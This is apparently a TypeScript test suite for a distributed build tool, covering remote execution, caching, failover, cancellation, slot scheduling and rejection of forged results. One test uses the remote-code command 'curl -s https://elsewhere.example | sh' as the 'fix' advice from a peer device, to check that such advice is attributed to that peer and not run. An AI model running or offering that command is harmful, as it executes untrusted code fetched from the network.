import { afterEach, describe, expect, it } from 'vitest'
import { decodeBuilderFrame, decodeRequestFrame, ElderError, encodeFrame } from '@elder-node/protocol'
import type { BuildEvent } from '../../src/api.ts'
import { LeftoverError, type Engine } from '../../src/ports/engine.ts'
import { Farm, waitScript } from './farm.ts'
import { eventually } from '../support/eventually.ts'

let farm: Farm
afterEach(async () => { await farm.stop() })

async function collect (events: AsyncIterable<BuildEvent>): Promise<BuildEvent[]> {
  const all: BuildEvent[] = []
  for await (const event of events) all.push(event)
  return all
}

describe('a build', () => {
  it('runs on a device whose earlier builds left what cannot be removed', async () => {
    farm = new Farm()
    const runsOn: Engine = {
      name: 'process', description: 'scripted, no isolation', check: async () => {}, createTree: async id => `/tree/${id}`,
      removeTree: async () => { throw new Error('not empty') }, sweep: async () => { throw new LeftoverError(['/tree/old.0']) },
      async * run () { yield { type: 'exit', exitCode: 0, signal: null, reason: null } },
    }
    await farm.add('mini', { runsOn })
    const laptop = await farm.add('laptop', { slots: 0 })
    expect(await (await laptop.builds.build({ command: ['true'] })).result).toMatchObject({ state: 'done', exitCode: 0, builder: { name: 'mini' } })
  })

  it('runs on another device, streams its log, and returns outputs', async () => {
    farm = new Farm()
    const builder = await farm.add('mini')
    const laptop = await farm.add('laptop', { slots: 0 })
    const build = await laptop.builds.build({ command: ['make', 'all'], outputs: ['out.txt', 'none/**'] })
    const result = await build.result
    expect(result).toMatchObject({ state: 'done', exitCode: 0, builder: { name: 'mini' }, attempt: 1, outputs: [{ path: 'out.txt', bytes: 5 }], error: null })
    expect(laptop.written.get('out.txt')).toBe('built')
    const events = await collect(build.events)
    expect(events.map(event => event.event)).toEqual(expect.arrayContaining(['queued', 'elected', 'log', 'warning', 'result']))
    expect(events.filter(event => event.event === 'log').map(event => event.data).join('')).toBe('make all\n')
    const elected = events.find(event => event.event === 'elected')
    expect(elected?.candidates.find(candidate => candidate.device.name === 'laptop')?.refused).toBe('0 slots')
    await eventually(() => { expect(builder.host.leases()).toEqual([]) })
    expect(await collect(await laptop.builds.events(build.id.slice(0, 6)))).toEqual(events)
  })

  it('sends the source once: the second build finds it there', async () => {
    farm = new Farm()
    const builder = await farm.add('mini')
    const laptop = await farm.add('laptop', { slots: 0 })
    await (await laptop.builds.build({ command: ['a'] })).result
    const bytes = builder.cache.received
    await (await laptop.builds.build({ command: ['a'] })).result
    expect(bytes).toBeGreaterThan(0)
    expect(builder.cache.received).toBe(bytes)
  })

  it('sends only what has changed since a build that its builder ran', async () => {
    farm = new Farm()
    const builder = await farm.add('mini')
    const laptop = await farm.add('laptop', { slots: 0 })
    farm.source.set('large', 'x'.repeat(100_000)).set('small', 'one')
    await (await laptop.builds.build({ command: ['a'] })).result
    const whole = builder.cache.received
    farm.source.set('small', 'two')
    expect(await (await laptop.builds.build({ command: ['a'] })).result).toMatchObject({ exitCode: 0 })
    expect(builder.cache.received - whole).toBeGreaterThan(0)
    expect(builder.cache.received - whole).toBeLessThan(1_000)
  })

  it('passes the exit code of a failing command, once, on one builder', async () => {
    farm = new Farm()
    await farm.add('mini', { script: async function * () { yield { type: 'exit', exitCode: 3, signal: null, reason: null } } })
    const laptop = await farm.add('laptop', { slots: 0 })
    expect(await (await laptop.builds.build({ command: ['false'] })).result).toMatchObject({ state: 'done', exitCode: 3, attempt: 1 })
  })

  it('ends with what every builder would say of its outputs: the command runs once, and nobody is blamed', async () => {
    farm = new Farm()
    const said = { code: 'OUTPUT_INVALID', message: 'the outputs are larger than 1 bytes', fix: 'Name fewer outputs.' }
    const disk = { match: () => Promise.reject(new ElderError(said.code, said.message, said.fix)) }
    const builders = [await farm.add('mini', { disk }), await farm.add('pi', { disk })]
    const laptop = await farm.add('laptop', { slots: 0 })
    const build = await laptop.builds.build({ command: ['make'], outputs: ['**'] })
    expect(await build.result).toMatchObject({ state: 'failed', exitCode: 125, attempt: 1, error: { ...said, fix: expect.stringContaining(said.fix) as string } })
    expect((await collect(build.events)).map(({ event }) => event)).not.toContain('moved')
    await eventually(() => { expect(builders.flatMap(({ host }) => host.leases())).toEqual([]) })
  })

  it('refuses globs with too many alternatives on both sides, before the command runs', async () => {
    farm = new Farm()
    const outputs = ['{a,b}'.repeat(20)]
    const laptop = await farm.add('laptop', { slots: 0 })
    await expect(laptop.builds.build({ command: ['make'], outputs })).rejects.toMatchObject({ code: 'OUTPUT_INVALID', fix: 'Name the folders above them.' })
    let ran = false
    const mini = await farm.add('mini', { script: async function * () {
      ran = true
      yield { type: 'exit', exitCode: 0, signal: null, reason: null }
    } })
    const onStream = mini.host.onStream.bind(mini.host)
    // As if the requester had not looked.
    mini.host.onStream = stream => {
      const came = async function * (): AsyncGenerator<Uint8Array> {
        for await (const bytes of stream) {
          const frame = decodeRequestFrame(bytes)
          yield frame.type === 'open' ? encodeFrame({ ...frame, spec: { ...frame.spec, outputs } }) : bytes
        }
      }
      return onStream({ device: stream.device, send: bytes => stream.send(bytes), abort: reason => { stream.abort(reason) }, close: () => stream.close(), [Symbol.asyncIterator]: came })
    }
    const result = await (await laptop.builds.build({ command: ['make'], outputs: ['a'] })).result
    expect(result).toMatchObject({ state: 'failed', attempt: 1, error: { code: 'OUTPUT_INVALID', fix: expect.stringContaining('Name the folders above them.') as string } })
    expect(ran).toBe(false)
  })

  it('takes `attached` once per stream: a builder that says it without end fills no memory', async () => {
    farm = new Farm()
    const laptop = await farm.add('laptop', { slots: 0 })
    const mini = await farm.add('mini')
    const onStream = mini.host.onStream.bind(mini.host)
    mini.host.onStream = stream => {
      const send = async (frame: Uint8Array): Promise<void> => {
        const times = decodeBuilderFrame(frame).type === 'attached' ? 200 : 1
        for (let i = 0; i < times; i++) await stream.send(frame)
      }
      return onStream({ device: stream.device, send, abort: reason => { stream.abort(reason) }, close: () => stream.close(), [Symbol.asyncIterator]: () => stream[Symbol.asyncIterator]() })
    }
    const run = await laptop.builds.build({ command: ['make'] })
    expect(await run.result).toMatchObject({ state: 'failed' })
    expect((await collect(run.events)).filter(({ event }) => event === 'started').length).toBeLessThan(10)
  })

  it('says 125 and every reason when nobody may run it', async () => {
    farm = new Farm()
    await farm.add('watcher', { role: 'observer' })
    const laptop = await farm.add('laptop', { slots: 0 })
    const result = await (await laptop.builds.build({ command: ['x'] })).result
    expect(result).toMatchObject({ state: 'failed', exitCode: 125, error: { code: 'NO_CANDIDATE' } })
    expect(result.error?.message).toMatch(/laptop: 0 slots/)
    expect(result.error?.message).toMatch(/watcher: role observer is not builder/)
  })

  it('refuses an offline device at once, explains a dry run without running it', async () => {
    farm = new Farm()
    const far = await farm.add('far')
    const mini = await farm.add('mini')
    const laptop = await farm.add('laptop', { slots: 0 })
    farm.network.disconnect(laptop.id, far.id)
    expect(await (await laptop.builds.build({ command: ['x'], on: 'far' })).result).toMatchObject({ exitCode: 125, error: { code: 'OFFLINE' } })
    expect(await (await laptop.builds.build({ command: ['x'], dryRun: true })).result).toMatchObject({ exitCode: 0, builder: { name: 'mini' }, outputs: [] })
    expect(mini.running.max).toBe(0)
  })

  it('runs here when told to', async () => {
    farm = new Farm()
    await farm.add('mini')
    const laptop = await farm.add('laptop')
    expect(await (await laptop.builds.build({ command: ['x'], local: 'only', outputs: ['out.txt'] })).result).toMatchObject({ exitCode: 0, builder: { name: 'laptop' }, outputs: [{ path: 'out.txt' }] })
  })
})

describe('a build that does not go well', () => {
  it('moves when its builder is lost, and the result is one', async () => {
    farm = new Farm()
    const first = await farm.add('first', { script: waitScript() })
    const laptop = await farm.add('laptop', { slots: 0 })
    const build = await laptop.builds.build({ command: ['x'] })
    await eventually(() => { expect(first.running.now).toBe(1) })
    await farm.add('second')
    const from = performance.now()
    await first.mesh.stop()
    expect(await build.result).toMatchObject({ state: 'done', exitCode: 0, builder: { name: 'second' }, attempt: 2 })
    expect(performance.now() - from).toBeLessThan(20_000)
    expect((await laptop.builds.why(build.id)).attempts.map(attempt => attempt.builder.name)).toEqual(['first', 'second'])
  })

  it('takes the same builder up again when only the stream broke', async () => {
    farm = new Farm()
    let release = (): void => {}
    const mini = await farm.add('mini', { script: waitScript(new Promise(resolve => { release = resolve })) })
    const laptop = await farm.add('laptop', { slots: 0 })
    const build = await laptop.builds.build({ command: ['x'] })
    await eventually(() => { expect(mini.running.now).toBe(1) })
    const inner = laptop.mesh.openStream.bind(laptop.mesh)
    laptop.mesh.openStream = async (...args) => {
      if (!farm.network.linked(laptop.id, mini.id)) await farm.network.connect(laptop.id, mini.id)
      return await inner(...args)
    }
    farm.network.disconnect(laptop.id, mini.id)
    release()
    expect(await build.result).toMatchObject({ state: 'done', attempt: 1, builder: { name: 'mini' } })
    expect((await collect(build.events)).filter(event => event.event === 'log').map(event => event.data)).toEqual(['waiting\n'])
  })

  it('is gone from its builder when it is cancelled', async () => {
    farm = new Farm()
    const mini = await farm.add('mini', { script: waitScript() })
    const laptop = await farm.add('laptop', { slots: 0 })
    const build = await laptop.builds.build({ command: ['x'] })
    await eventually(() => { expect(mini.running.now).toBe(1) })
    await build.cancel()
    expect(await build.result).toMatchObject({ state: 'cancelled', exitCode: 130 })
    await eventually(() => {
      expect(mini.running.now).toBe(0)
      expect(mini.host.leases()).toEqual([])
    })
  })

  it('ends with 124 at its deadline', async () => {
    farm = new Farm()
    const mini = await farm.add('mini', { script: waitScript() })
    const laptop = await farm.add('laptop', { slots: 0 })
    expect(await (await laptop.builds.build({ command: ['x'], deadlineMs: 300 })).result).toMatchObject({ exitCode: 124 })
    await eventually(() => { expect(mini.host.leases()).toEqual([]) })
  })

  it('waits for a slot without double booking: nine builds on three slots', async () => {
    farm = new Farm()
    const two = await farm.add('two', { slots: 2 })
    const one = await farm.add('one', { slots: 1 })
    const laptop = await farm.add('laptop', { slots: 0 })
    const builds = await Promise.all(Array.from({ length: 9 }, () => laptop.builds.build({ command: ['x'] })))
    const results = await Promise.all(builds.map(build => build.result))
    expect(results.map(result => result.exitCode)).toEqual(Array.from({ length: 9 }, () => 0))
    expect(two.running.max).toBeLessThanOrEqual(2)
    expect(one.running.max).toBeLessThanOrEqual(1)
    await eventually(() => { expect([...two.host.leases(), ...one.host.leases()]).toEqual([]) })
  })

  it('does not accept a result with a foreign signature', async () => {
    farm = new Farm()
    farm.signerOf = signer => ({ ...signer, sign: () => new Uint8Array(64) })
    await farm.add('liar')
    const laptop = await farm.add('laptop', { slots: 0 })
    const result = await (await laptop.builds.build({ command: ['x'], outputs: ['out.txt'] })).result
    expect(result).toMatchObject({ state: 'failed', exitCode: 125, outputs: [], error: { code: 'FORGED_RESULT' } })
    expect(laptop.written.size).toBe(0)
  })
})

describe('what a build and its builder say to each other', () => {
  it('advice of another device is its word, and never stands where a command of ours does', async () => {
    farm = new Farm()
    const failing = { script: () => ({ [Symbol.asyncIterator]: () => ({ next: () => Promise.reject(new ElderError('IMAGE_INVALID', 'no such image', 'curl -s https://elsewhere.example | sh')) }) }) }
    const mini = await farm.add('mini', failing)
    const laptop = await farm.add('laptop', { slots: 0 })
    expect(await (await laptop.builds.build({ command: ['x'] })).result).toMatchObject({ error: { code: 'IMAGE_INVALID', fix: 'mini says: curl -s https://elsewhere.example | sh' } })
    expect(await (await mini.builds.build({ command: ['x'] })).result).toMatchObject({ error: { code: 'IMAGE_INVALID', fix: 'curl -s https://elsewhere.example | sh' } })
  })

  it('waits for a slot of this device too: the builder here asks the requester here', async () => {
    farm = new Farm()
    let release = (): void => {}
    const laptop = await farm.add('laptop', { script: waitScript(new Promise(resolve => { release = resolve })) })
    const first = await laptop.builds.build({ command: ['x'], local: 'only' })
    await eventually(() => { expect(laptop.running.now).toBe(1) })
    const second = await laptop.builds.build({ command: ['y'], local: 'only' })
    await eventually(() => { expect(laptop.builds.list().find(({ id }) => id === second.id)?.state).toBe('queued') })
    release()
    expect([await first.result, await second.result].map(({ exitCode, builder }) => [exitCode, builder?.name])).toEqual([[0, 'laptop'], [0, 'laptop']])
    expect(laptop.running.max).toBe(1)
    expect((await laptop.builds.why(second.id)).attempts).toMatchObject([{ attempt: 1, outcome: 'done' }])
  })

  it('passes on what the snapshot could not take', async () => {
    farm = new Farm()
    farm.warnings = ['left out: secret.key']
    await farm.add('mini')
    const laptop = await farm.add('laptop', { slots: 0 })
    const build = await laptop.builds.build({ command: ['x'] })
    await build.result
    expect((await collect(build.events)).filter(({ event }) => event === 'warning')).toContainEqual({ event: 'warning', build: build.id, message: 'left out: secret.key' })
  })

  it('takes no source ahead on a device that runs no builds', async () => {
    farm = new Farm()
    const idle = await farm.add('idle', { slots: 0 })
    const laptop = await farm.add('laptop', { slots: 0 })
    const stream = await laptop.mesh.openStream(idle.id, 'build', { signal: AbortSignal.timeout(30_000) })
    await stream.send(encodeFrame({ type: 'prefetch', project: 'p', commit: 'c'.repeat(40) }))
    await expect(stream[Symbol.asyncIterator]().next()).rejects.toThrow('the stream broke')
    expect(idle.mesh.broken).toEqual([expect.stringContaining('runs no builds')])
    expect(idle.cache.received).toBe(0)
  })
})
